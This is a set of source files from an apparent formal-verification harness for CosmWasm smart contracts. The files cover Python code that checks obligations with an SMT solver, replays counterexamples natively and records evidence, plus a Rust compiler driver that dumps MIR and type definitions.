                self.known_hits.append((k.get('obligation') if k.get('prefix') else oid, k.get('what', desc)))
                rec['known_finding'] = True
                return
        os.makedirs(REPLAYS, exist_ok=True)
        n = len(self.violations)
        if n >= 12:
            # enough confirmed violations to report; further ones are counted but not replayed one by one
            self.more_violations = getattr(self, 'more_violations', 0) + 1
            rec['not_replayed'] = True
            return
        fn = os.path.join(REPLAYS, '%s-%d.json' % (self.pid, n))
        confirmed = None; native = None
        if getattr(self, 'unconfirmed', 0) >= 8:
            # eight counterexamples of this run already failed to manifest natively: the run is inconclusive whatever happens next; further candidate
            # searches (up to a minute each) are skipped so that the verdict arrives in bounded time. Never reported as a pass.
            self.inconclusive.append('%s: counterexample not examined natively (8 earlier ones of this run did not manifest)' % oid)
            rec['replay_confirmed'] = False
            return
        if native_pred is not None and path.steps and not os.environ.get('VERIF_NO_REPLAY'):
            # the path was explored with stubbed kernels (uninterpreted functions): the interpreter's prediction is not comparable with a
            # native run, so the violation is confirmed by evaluating the obligation's own predicate on the REAL outputs for concrete inputs
            from . import replay
            cands = [model]
            if retry:
                base, nice = retry
                for extra_seed in (0, 1, 2):
                    if not nice: break
                    s0 = self.seed; self.seed = s0 + 101 * extra_seed
                    try: r2, m2, _ = self.solve(base + nice, 20000)
                    finally: self.seed = s0
                    if r2 == z3.sat: cands.insert(0, m2)
                    elif os.environ.get('VERIF_TRACE'): print('nice candidate search:', r2, file=sys.stderr)
            tried = []
            for m in cands[:4]:
                try:
                    scs = [replay.scenario(path.prog, st.scenario, m) for st in path.steps]
                    reals = replay.run_scenarios([sc for sc, _ in scs])
                    ok = bool(native_pred(reals, [sc for sc, _ in scs]))
                except Exception as e:
                    tried.append(dict(error=repr(e))); continue
                tried.append(dict(scenarios=[sc for sc, _ in scs], reals=reals, manifests=ok))
                if ok:
                    confirmed = True; model = m; native = tried[-1]; break
            if not confirmed:
                self.unconfirmed = getattr(self, 'unconfirmed', 0) + 1
                self.inconclusive.append('%s: the solver counterexample (stubbed kernels) did not manifest natively on %d candidate inputs (%s)' % (oid, len(tried), fn))
                rec['replay_confirmed'] = False
                json.dump(dict(property=self.pid, obligation=oid, desc=desc, native=tried), open(fn, 'w'), indent=1, default=str)
                return
        elif path.steps and not os.environ.get('VERIF_NO_REPLAY'):
            from . import replay
            native = []; confirmed = True
            try:
                scs = [replay.scenario(path.prog, st.scenario, model) for st in path.steps]
                reals = replay.run_scenarios([sc for sc, _ in scs])
                for st, (sc, conc), real in zip(path.steps, scs, reals):
                    mism = replay.compare(path.prog, st, conc, real)
                    native.append(dict(scenario=sc, real=real, mismatches=mism))
                    if mism: confirmed = False
            except Exception as e:
                native.append(dict(error=repr(e))); confirmed = False
            if not confirmed:
                self.inconclusive.append('%s: solver counterexample did not reproduce natively (%s): %s'
                                         % (oid, fn, str([n.get('mismatches') or n.get('error') for n in native])[:400]))
                rec['replay_confirmed'] = False
                json.dump(dict(property=self.pid, obligation=oid, desc=desc, native=native), open(fn, 'w'), indent=1, default=str)
                return
            native = native[0] if len(native) == 1 else dict(steps=native)
        mdl = {}
        for d in model.decls():
            try: mdl[d.name()] = str(model[d])
            except Exception: pass
        json.dump(dict(property=self.pid, obligation=oid, desc=desc, site=key, path=path.short(), decisions=path.log,
                       tag=path.tag, model=mdl, native=native,
                       replay_confirmed=confirmed if confirmed is not None else 'not replayable (function-level obligation)'),
                  open(fn, 'w'), indent=1, default=str)
        self.violations.append((oid, fn, key))
        rec['replay'] = fn

    def require(self, cond, what):
        if not cond: self.inconclusive.append(what)

    def sample(self, x):
        if len(self.samples) < 12: self.samples.append(x)

    # ------------------------------------------------------------------------------------------
    def finish(self, extra=None):
        wall = time.time() - self.t0
        nun = sum(1 for o in self.oblig if o['verdict'] == 'unsat')
        for o in self.oblig[:8]:
            self.sample(dict(obligation=o['id'], verdict=o['verdict'], solver_s=o['s'], on_path=o['path'], desc=o['desc']))
        cov = dict(states=max(1, self.paths_total), transitions=max(1, self.entries),
                   traces_validated_against_impl=self.validated,
                   samples=self.samples or [dict(note='no obligations')],
                   obligations=len(self.oblig), discharged=nun,
                   queries=dict(feasibility=self.feas_queries, feasibility_unknown_treated_as_feasible=self.unknown_feas,
                                obligations_unsat=nun,
                                obligations_sat=sum(1 for o in self.oblig if o['verdict'] == 'sat'),
                                obligations_unknown=sum(1 for o in self.oblig if o['verdict'] == 'unknown')),
                   solver_time_s=round(self.solver_s, 2), mir_regeneration_s=round(self.regen_s, 2),
                   functions_encoded=sorted(self.functions), models_used=sorted(self.models), stubs=sorted(self.stubs),
                   bounds=self.bounds, outside_bounds=self.outside,
                   cover_queries=self.vac['cover'], cross_solver_second_opinion=dict(self.cross),
                   known_findings_matched=[o for o, _ in self.known_hits],
                   inconclusive=self.inconclusive[:20],
                   obligation_list=[dict(id=o['id'], verdict=o['verdict'], s=o['s'], path=o['path']) for o in self.oblig][:400],
                   source_hashes={c: h for p in self.progs.values() for c, h in p.hashes.items()},
                   exhaustive=False)
        if extra: cov.update(extra)
        ev = dict(property_id=self.pid, tier=self.tier, seed=self.seed, level='model_checking', coverage=cov,
                  assumptions=self.assumptions, wall_s=round(wall, 2), violations=len(self.violations))
        os.makedirs(EVID, exist_ok=True)
        json.dump(ev, open(os.path.join(EVID, self.pid + '.json'), 'w'), indent=1, default=str)
        seen = set()
        for oid, what in self.known_hits:
            if oid in seen: continue
            seen.add(oid)
            print('KNOWN-FINDING: property=%s %s [%s]' % (self.pid, what, oid))
        for oid, fn, key in self.violations:
            print('VIOLATION property=%s replay=%s' % (self.pid, fn))
            print('  obligation %s at %s' % (oid, key))
        if getattr(self, 'more_violations', 0):
            print('  (+%d further satisfiable obligations not replayed individually)' % self.more_violations)
        print('%s %s: %d paths, %d obligations (%d unsat, %d sat, %d unknown), %d known findings, %.1fs'
              % (self.pid, self.tier, self.paths_total, len(self.oblig), nun,
                 sum(1 for o in self.oblig if o['verdict'] == 'sat'), sum(1 for o in self.oblig if o['verdict'] == 'unknown'),
                 len(self.known_hits), wall))
        if self.violations: return 1
        if self.inconclusive:
            for x in self.inconclusive[:20]: print('INCONCLUSIVE:', x)
            return 2
        return 0


# ---- helpers to dig values out of responses -----------------------------------------------------------
def resp_of(path):
    return path.value.fields[0]


def messages(resp):
    """list of (submsg, cosmos msg enum)"""
    return [(sm, sm.fields[1]) for sm in resp.fields[0].items]


def attrs(resp):
    return resp.fields[1].items


def bank_sends(resp):
    out = []
    for sm, m in messages(resp):
        if m.variant == 'Bank' and m.fields[0].variant == 'Send':
            b = m.fields[0]
            out.append((b.fields[0], b.fields[1].items))
    return out


def bank_burns(resp):
    out = []
    for sm, m in messages(resp):
        if m.variant == 'Bank' and m.fields[0].variant == 'Burn':
            out.append(m.fields[0].fields[0].items)
    return out


def wasm_execs(resp):
    """[(contract Str, inner msg value, funds list, submsg)]"""
    out = []
    for sm, m in messages(resp):
        if m.variant == 'Wasm' and m.fields[0].variant == 'Execute':
            w = m.fields[0]
            p = w.fields[1].fields[0]
            out.append((w.fields[0], p.payload if isinstance(p, Opaque) else p, w.fields[2].items, sm))
    return out


# ---- builders for entry-point arguments ---------------------------------------------------------------
from .models_cw import mk_deps, BIN


def mk_env(it, time_nanos, height=12345, contract=None):
    c = contract or it.world.contract
    return Agg('cosmwasm_std::Env', [Agg('cosmwasm_std::BlockInfo', [height, TS(time_nanos), Str('chain-1')]), NONE(),
                                     Agg('cosmwasm_std::ContractInfo', [ADDR(c)])])


def mk_info(sender, funds=()):
    return Agg('cosmwasm_std::MessageInfo', [sender if isinstance(sender, Agg) else ADDR(sender), VecV(list(funds))])


class Step:
    """one real entry-point call inside a (possibly multi-step) symbolic scenario, with the interpreter's prediction for it."""
    __slots__ = ('scenario', 'kind', 'value', 'msg', 'world')
    def __init__(self, scenario): self.scenario = scenario; self.kind = None; self.value = None; self.msg = ''; self.world = None
    def short(self):
        return PathResult.short(self)


def enter(it, contract, entry, env, info, msg, nice=()):
    """run a real contract entry point (`<contract>::contract::<entry>`) after snapshotting the pre-state for replay.
    Several calls in one body make a multi-step history; each step is validated natively on its own."""
    from . import replay
    sc = dict(contract=contract, entry=entry, pre=replay.snapshot(it.world), env=env, info=info, msg=dup(msg), nice=list(nice))
    st = Step(sc)
    if not hasattr(it, 'rsteps'): it.rsteps = []
    it.rsteps.append(st)
    it.scenario = sc
    name = '%s::contract::%s' % (contract, entry)
    if entry == 'reply' and it.prog.get(name) is None: name = '%s::reply::reply' % contract
    try:
        if entry == 'query': r = run_entry(it, name, mk_deps(mut=False), env, msg)
        elif entry in ('reply', 'migrate'): r = run_entry(it, name, mk_deps(), env, msg)
        else: r = run_entry(it, name, mk_deps(), env, info, msg)
    except PanicPath as p:
        st.kind = 'panic'; st.msg = p.msg; raise
    st.kind = 'ret'; st.value = r; st.world = replay.snapshot(it.world)
    return r


def run_entry(it, name, *args):
    f = it.prog.get(name)
    if f is None: raise Unsupported('entry point not found: ' + name)
    return it.run(f, list(args))


# ---- chain model: what a Response does to balances ------------------------------------------------------
class Effect:
    """one balance effect of an emitted message. kind in send|burn|mint|pull|call|other; asset = denom or cw20 contract (Str)."""
    __slots__ = ('kind', 'asset', 'native', 'src', 'dst', 'amount', 'msg', 'funds', 'sub')
    def __init__(self, kind, asset=None, native=False, src=None, dst=None, amount=None, msg=None, funds=None, sub=None):
        self.kind = kind; self.asset = asset; self.native = native; self.src = src; self.dst = dst; self.amount = amount
        self.msg = msg; self.funds = funds; self.sub = sub
    def __repr__(self): return 'Effect(%s %s %s->%s %s)' % (self.kind, self.asset, self.src, self.dst, self.amount)


def sname(x):
    x = deref(x)
    if isinstance(x, Agg) and x.name == 'cosmwasm_std::Addr': x = x.fields[0]
    return x


def effects(resp, self_addr):
    """list of Effect for every message of a Response, in order."""
    out = []
    me = Str(self_addr) if not isinstance(self_addr, Str) else self_addr
    for sm, m in messages(resp):
        if not isinstance(m, Enum): out.append(Effect('other', msg=m, sub=sm)); continue
        if m.variant == 'Bank':
            b = m.fields[0]
            if b.variant == 'Send':
                for coin in b.fields[1].items:
                    out.append(Effect('send', sname(coin.fields[0]), True, me, sname(b.fields[0]), coin.fields[1].fields[0], sub=sm))
            elif b.variant == 'Burn':
                for coin in b.fields[0].items:
                    out.append(Effect('burn', sname(coin.fields[0]), True, me, None, coin.fields[1].fields[0], sub=sm))
            continue
        if m.variant == 'Wasm' and m.fields[0].variant == 'Execute':
            w = m.fields[0]; tgt = sname(w.fields[0]); p = w.fields[1].fields[0]
            inner = p.payload if isinstance(p, Opaque) else p
            funds = w.fields[2].items
            if isinstance(inner, Enum) and inner.name == 'cw20::Cw20ExecuteMsg':
                v = inner.variant; f = inner.fields
                if v == 'Transfer': out.append(Effect('send', tgt, False, me, sname(f[0]), f[1].fields[0], sub=sm)); continue
                if v == 'Burn': out.append(Effect('burn', tgt, False, me, None, f[0].fields[0], sub=sm)); continue
                if v == 'Mint': out.append(Effect('mint', tgt, False, None, sname(f[0]), f[1].fields[0], sub=sm)); continue
                if v == 'TransferFrom': out.append(Effect('pull', tgt, False, sname(f[0]), sname(f[1]), f[2].fields[0], sub=sm)); continue
                if v == 'Send': out.append(Effect('send', tgt, False, me, sname(f[0]), f[1].fields[0], msg=f[2], sub=sm)); continue
                if v == 'BurnFrom': out.append(Effect('burnfrom', tgt, False, sname(f[0]), None, f[1].fields[0], sub=sm)); continue
                if v == 'IncreaseAllowance': out.append(Effect('allow', tgt, False, me, sname(f[0]), f[1].fields[0], sub=sm)); continue
            out.append(Effect('call', tgt, False, me, tgt, None, msg=inner, funds=funds, sub=sm)); continue
        out.append(Effect('other', msg=m, sub=sm))
    return out


def same(a, b):
    """python-level identity test of two concrete names (Str or str)."""
    a = a.s if isinstance(a, Str) else a; b = b.s if isinstance(b, Str) else b
    return a == b


def total(effs, kind, asset, pred=None):
    t = 0
    for e in effs:
        if e.kind == kind and e.asset is not None and same(e.asset, asset) and (pred is None or pred(e)): t = t + e.amount
    return t


def opts(it, fields):
    """every optional field of a configuration message independently present or absent: the full power set up to five fields, otherwise
    {none, each field alone, all}.  fields: [(name, thunk)] -> {name: Some(thunk()) | None}"""
    c = it.ctx; k = len(fields)
    if k <= 5:
        return {n: (SOME(t()) if c.branch(c.symbool('has_' + n), 'has_' + n) else NONE()) for n, t in fields}
    m = c.sym('optmode', 8, hi=k + 1)
    idx = c.choose([m == j for j in range(k + 2)], 'optmode')
    return {n: (SOME(t()) if idx in (j + 1, k + 1) else NONE()) for j, (n, t) in enumerate(fields)}


def run_main(main):
    """entry wrapper of every check: an exception inside the check script itself (a shape the script did not expect, a missing
    model) is a failure of the MACHINERY, not a verdict about the code - exit 2 (inconclusive), never 1 and never 0."""
    try:
        return main()
    except SystemExit:
        raise
    except Exception:
        traceback.print_exc()
        print('INCONCLUSIVE: the check script failed with the exception above (harness error, no verdict about the code)')
        return 2
