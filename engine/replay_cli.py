"""./check <ID> --replay <file>: re-run the recorded native scenario of a violation against the real contracts of /repo,
in the dev profile and in the release profile, and show what the real code does."""
import json, sys
from . import replay


def main(path):
    rec = json.load(open(path))
    nat = rec.get('native') or {}
    steps = nat.get('steps') or ([nat] if nat.get('scenario') else ([rec] if rec.get('scenario') else []))
    if not steps:
        print('no native scenario recorded in', path); return 2
    for release in (False, True):
        for i, stp in enumerate(steps):
            out = replay.run_scenarios([stp['scenario']], release=release)[0]
            print('profile=%s step=%d outcome=%s' % ('release' if release else 'dev', i, json.dumps(out['result'])[:1500]))
            if stp.get('real') is not None and out['result'] != stp['real']['result']:
                print('  differs from the recorded run'); return 2
    print('property=%s obligation=%s: %s' % (rec.get('property'), rec.get('obligation'), rec.get('desc')))
    return 1 if rec.get('replay_confirmed') is True else 0


if __name__ == '__main__':
    sys.exit(main(sys.argv[1]))
