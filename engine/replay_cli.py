"""./check <ID> --replay <file>: re-run the recorded native scenario of a violation against the real contracts of /repo,
in the dev profile and in the release profile, and show what the real code does."""
import json, sys
from . import replay


def main(path):
    rec = json.load(open(path))
    nat = rec.get('native') or {}
    sc = nat.get('scenario') or rec.get('scenario')
    if sc is None:
        print('no native scenario recorded in', path); return 2
    for release in (False, True):
        out = replay.run_scenarios([sc], release=release)[0]
        print('profile=%s outcome=%s' % ('release' if release else 'dev', json.dumps(out['result'])[:1500]))
        if nat.get('real') is not None and out['result'] != nat['real']['result']:
            print('  differs from the recorded run'); return 2
    print('property=%s obligation=%s: %s' % (rec.get('property'), rec.get('obligation'), rec.get('desc')))
    return 1 if rec.get('replay_confirmed') is True else 0


if __name__ == '__main__':
    sys.exit(main(sys.argv[1]))
