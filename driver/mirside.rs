// mirside: rustc driver used as RUSTC_WORKSPACE_WRAPPER under `cargo +nightly check`.
// For every crate named in MIRSIDE_CRATES (comma separated, rustc crate names) it writes
// $MIRSIDE_OUT/<crate>.mirx containing, per MIR-bearing item of the crate:
//   @@ITEM <json>      name, span, generic?, resolved calls per basic block, closure aggregates
//   <textual MIR of the item and its promoteds, as printed by rustc's own MIR pretty printer>
//   @@END
// followed by @@ADT <json> records (variants, discriminants, field names and types) for every ADT
// reachable from the types of locals. Everything else is compiled by the real rustc unchanged.
#![feature(rustc_private)]
extern crate rustc_driver;
extern crate rustc_hir;
extern crate rustc_interface;
extern crate rustc_middle;
#[macro_use]
extern crate rustc_public;
extern crate rustc_public_bridge;
extern crate rustc_span;
extern crate serde_json;

use rustc_middle::ty::TyCtxt;
use rustc_public::mir::mono::Instance;
use rustc_public::mir::{AggregateKind, Operand, Rvalue, StatementKind, TerminatorKind};
use rustc_public::ty::{AdtDef, AdtKind, GenericArgKind, RigidTy, Ty, TyKind};
use rustc_public::{CrateDef, CrateItem};
use rustc_public_bridge::IndexedVal;
use serde_json::json;
use std::collections::BTreeSet;
use std::io::Write;
use std::ops::ControlFlow;

fn collect_adts(ty: Ty, seen: &mut BTreeSet<String>, out: &mut Vec<AdtDef>, depth: usize) {
    if depth > 8 {
        return;
    }
    if let TyKind::RigidTy(r) = ty.kind() {
        match r {
            RigidTy::Adt(def, args) => {
                let name = def.name();
                if seen.insert(name) {
                    out.push(def);
                    // field types of non-generic ADTs (so nested message types are reachable)
                    if args.0.is_empty() {
                        for v in def.variants_iter() {
                            for fd in v.fields() {
                                collect_adts(fd.ty(), seen, out, depth + 1);
                            }
                        }
                    }
                }
                for a in args.0.iter() {
                    if let GenericArgKind::Type(t) = a {
                        collect_adts(*t, seen, out, depth + 1);
                    }
                }
            }
            RigidTy::Ref(_, t, _) | RigidTy::RawPtr(t, _) | RigidTy::Slice(t) | RigidTy::Array(t, _) => {
                collect_adts(t, seen, out, depth + 1)
            }
            RigidTy::Tuple(ts) => {
                for t in ts {
                    collect_adts(t, seen, out, depth + 1)
                }
            }
            _ => {}
        }
    }
}

fn dump(tcx: TyCtxt<'_>) -> ControlFlow<()> {
    let dir = std::env::var("MIRSIDE_OUT").expect("MIRSIDE_OUT");
    let krate = rustc_public::local_crate().name;
    let tmp = format!("{}/{}.mirx.tmp", dir, krate);
    let mut f = std::io::BufWriter::new(std::fs::File::create(&tmp).unwrap());
    let mut seen = BTreeSet::new();
    let mut adts = vec![];
    for item in rustc_public::all_local_items() {
        let did = rustc_public::rustc_internal::internal(tcx, item.def_id());
        let name = item.name();
        let span = item.span().diagnostic();
        if !item.has_body() {
            // trivial constants (`const X: &str = "..."`) have no MIR body but are printed by the pretty printer
            if tcx.trivial_const(did).is_some() {
                writeln!(f, "@@ITEM {}", json!({"name": name, "span": span, "generic": true, "trivial_const": true})).unwrap();
                rustc_middle::mir::pretty::write_mir_pretty(tcx, Some(did), &mut f).unwrap();
                writeln!(f, "@@END").unwrap();
            }
            continue;
        }
        let rec = if item.requires_monomorphization() {
            json!({"name": name, "span": span, "generic": true})
        } else {
            let body = item.expect_body();
            let mut calls = vec![];
            let mut closures = vec![];
            for l in body.locals() {
                collect_adts(l.ty, &mut seen, &mut adts, 0);
            }
            for (bi, bb) in body.blocks.iter().enumerate() {
                let mut k = 0;
                for st in bb.statements.iter() {
                    if let StatementKind::Assign(_, Rvalue::Aggregate(kind, ops)) = &st.kind {
                        match kind {
                            AggregateKind::Closure(def, _) => {
                                closures.push(json!({"bb": bi, "k": k, "closure": def.name(), "operands": ops.len()}));
                                k += 1;
                            }
                            _ => {}
                        }
                    }
                }
                if let TerminatorKind::Call { func: Operand::Constant(c), .. } = &bb.terminator.kind {
                    if let TyKind::RigidTy(RigidTy::FnDef(def, args)) = c.ty().kind() {
                        let rec = match Instance::resolve(def, &args) {
                            Ok(i) => {
                                let target = CrateItem::try_from(i).ok().map(|c| c.name());
                                json!({"bb": bi, "def": def.name(), "instance": i.name(), "target": target,
                                       "has_body": i.has_body(), "kind": format!("{:?}", i.kind)})
                            }
                            Err(_) => json!({"bb": bi, "def": def.name(), "instance": null, "target": null, "has_body": false, "kind": "unresolved"}),
                        };
                        calls.push(rec);
                    }
                }
            }
            json!({"name": name, "span": span, "generic": false, "calls": calls, "closures": closures})
        };
        writeln!(f, "@@ITEM {}", rec).unwrap();
        rustc_middle::mir::pretty::write_mir_pretty(tcx, Some(did), &mut f).unwrap();
        writeln!(f, "@@END").unwrap();
    }
    for def in adts {
        let name = def.name();
        let idef = tcx.adt_def(rustc_public::rustc_internal::internal(tcx, def.0));
        let ctors: Vec<&str> = idef
            .variants()
            .iter()
            .map(|v| match v.ctor_kind() {
                Some(rustc_hir::def::CtorKind::Const) => "const",
                Some(rustc_hir::def::CtorKind::Fn) => "fn",
                None => "none",
            })
            .collect();
        let variants: Vec<_> = def
            .variants_iter()
            .enumerate()
            .map(|(i, v)| {
                let discr = if def.kind() == AdtKind::Enum {
                    Some(def.discriminant_for_variant(rustc_public::ty::VariantIdx::to_val(i)).val.to_string())
                } else {
                    None
                };
                json!({"name": v.name(), "discr": discr, "ctor": ctors[i],
                       "fields": v.fields().iter().map(|fd| json!([fd.name.clone(), format!("{}", fd.ty())])).collect::<Vec<_>>()})
            })
            .collect();
        writeln!(f, "@@ADT {}", json!({"adt": name, "kind": def.kind().to_string(), "variants": variants})).unwrap();
    }
    f.flush().unwrap();
    drop(f);
    std::fs::rename(&tmp, format!("{}/{}.mirx", dir, krate)).unwrap();
    ControlFlow::Continue(())
}

fn main() {
    let mut args: Vec<String> = std::env::args().collect();
    // invoked as: mirside /path/to/rustc <rustc args...>
    let real = if args.len() > 1 && args[1].ends_with("rustc") { Some(args.remove(1)) } else { None };
    let wanted = std::env::var("MIRSIDE_CRATES").unwrap_or_default();
    let mut crate_name = None;
    for (i, a) in args.iter().enumerate() {
        if a == "--crate-name" && i + 1 < args.len() {
            crate_name = Some(args[i + 1].clone());
        }
    }
    let is_lib = !args.iter().any(|a| a == "--test") && !args.windows(2).any(|w| w[0] == "--crate-type" && w[1] == "bin");
    let hit = match &crate_name {
        Some(c) => is_lib && wanted.split(',').any(|w| w == c),
        None => false,
    };
    if !hit {
        let real = real.unwrap_or_else(|| "rustc".into());
        let st = std::process::Command::new(real).args(&args[1..]).status().expect("spawn rustc");
        std::process::exit(st.code().unwrap_or(1));
    }
    args.extend(["-C", "overflow-checks=on", "-C", "debug-assertions=off", "-Ztrim-diagnostic-paths=no"].iter().map(|s| s.to_string()));
    let _ = run_with_tcx!(&args, dump);
}
